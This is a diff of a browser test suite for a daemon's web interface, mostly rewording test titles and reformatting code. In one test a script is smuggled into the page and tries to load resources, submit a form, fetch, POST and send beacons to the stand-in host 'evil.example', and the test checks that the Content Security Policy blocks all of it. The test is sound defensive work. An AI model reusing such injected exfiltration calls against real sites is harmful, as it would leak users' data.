@@ -45,7 +45,7 @@ describe("a daemon that requires tokens", () => {
     toml: `[auth]\ntoken = "${TOKEN}"\nrequire_token_identity = true\n`,
   });
   inChromium(
-    "no secret is stored, shown or in an address, from signing in to signing out",
+    "keeps every secret out of storage, page and addresses, from signing in to signing out",
     async ({ web }) => {
       const admin = { authorization: `Bearer ${TOKEN}` };
       const made = await web.call("POST", "/tokens", { actor: "ann" }, admin);
@@ -120,42 +120,45 @@ inChromium(
   },
 );
 
-inChromium("a script smuggled in by a text could neither load, send nor frame", async ({ web }) => {
-  await filled(web, "One");
-  const page = await opened(web);
-  const refused: string[] = [];
-  await page.exposeFunction("refusedBy", (rule: string) => void refused.push(rule));
-  const before = web.faults.seen.length;
-  const sent = new Set<string>();
-  page.on("request", (request) => {
-    if (!request.url().startsWith(web.origin)) sent.add(request.url());
-  });
-  // The browser tells of such a request, and that its policy kept it from being sent.
-  page.on("requestfailed", (request) => {
-    if (request.failure()?.errorText === "csp") sent.delete(request.url());
-  });
-  await page.evaluate(async (elsewhere) => {
-    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
-      (Reflect.get(globalThis, "refusedBy") as (rule: string) => void)(effectiveDirective);
+inChromium(
+  "a script smuggled into the page by a text could neither load anything, send anything nor open a frame",
+  async ({ web }) => {
+    await filled(web, "One");
+    const page = await opened(web);
+    const refused: string[] = [];
+    await page.exposeFunction("refusedBy", (rule: string) => void refused.push(rule));
+    const before = web.faults.seen.length;
+    const sent = new Set<string>();
+    page.on("request", (request) => {
+      if (!request.url().startsWith(web.origin)) sent.add(request.url());
     });
-    const add = (name: string, values: object): void =>
-      document.body.append(Object.assign(document.createElement(name), values));
-    add("script", { textContent: "window.hit = 1" });
-    add("script", { src: `${elsewhere}/x.js` });
-    add("img", { src: `${elsewhere}/x.png` });
-    add("iframe", { src: `${elsewhere}/x` });
-    add("object", { data: `${elsewhere}/x` });
-    add("base", { href: elsewhere });
-    add("form", { action: elsewhere, id: "away" });
-    document.querySelector<HTMLFormElement>("#away")?.submit();
-    await fetch(elsewhere).catch(() => undefined);
-    await fetch(elsewhere, { mode: "no-cors", method: "POST", body: "x" }).catch(() => undefined);
-    navigator.sendBeacon(elsewhere, "x");
-  }, "https://evil.example");
-  const rules = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src"];
-  await expect.poll(() => [...new Set(refused)].sort()).toEqual([...rules, "script-src-elem"]);
-  expect(await page.evaluate(() => Reflect.get(globalThis, "hit"))).toBeUndefined();
-  expect([...sent]).toEqual([]);
-  // These refusals are what this test is about.
-  web.faults.seen.splice(before);
-});
+    // The browser tells of such a request, and that its policy kept it from being sent.
+    page.on("requestfailed", (request) => {
+      if (request.failure()?.errorText === "csp") sent.delete(request.url());
+    });
+    await page.evaluate(async (elsewhere) => {
+      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+        (Reflect.get(globalThis, "refusedBy") as (rule: string) => void)(effectiveDirective);
+      });
+      const add = (name: string, values: object): void =>
+        document.body.append(Object.assign(document.createElement(name), values));
+      add("script", { textContent: "window.hit = 1" });
+      add("script", { src: `${elsewhere}/x.js` });
+      add("img", { src: `${elsewhere}/x.png` });
+      add("iframe", { src: `${elsewhere}/x` });
+      add("object", { data: `${elsewhere}/x` });
+      add("base", { href: elsewhere });
+      add("form", { action: elsewhere, id: "away" });
+      document.querySelector<HTMLFormElement>("#away")?.submit();
+      await fetch(elsewhere).catch(() => undefined);
+      await fetch(elsewhere, { mode: "no-cors", method: "POST", body: "x" }).catch(() => undefined);
+      navigator.sendBeacon(elsewhere, "x");
+    }, "https://evil.example");
+    const rules = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src"];
+    await expect.poll(() => [...new Set(refused)].sort()).toEqual([...rules, "script-src-elem"]);
+    expect(await page.evaluate(() => Reflect.get(globalThis, "hit"))).toBeUndefined();
+    expect([...sent]).toEqual([]);
+    // These refusals are what this test is about.
+    web.faults.seen.splice(before);
+  },
+);
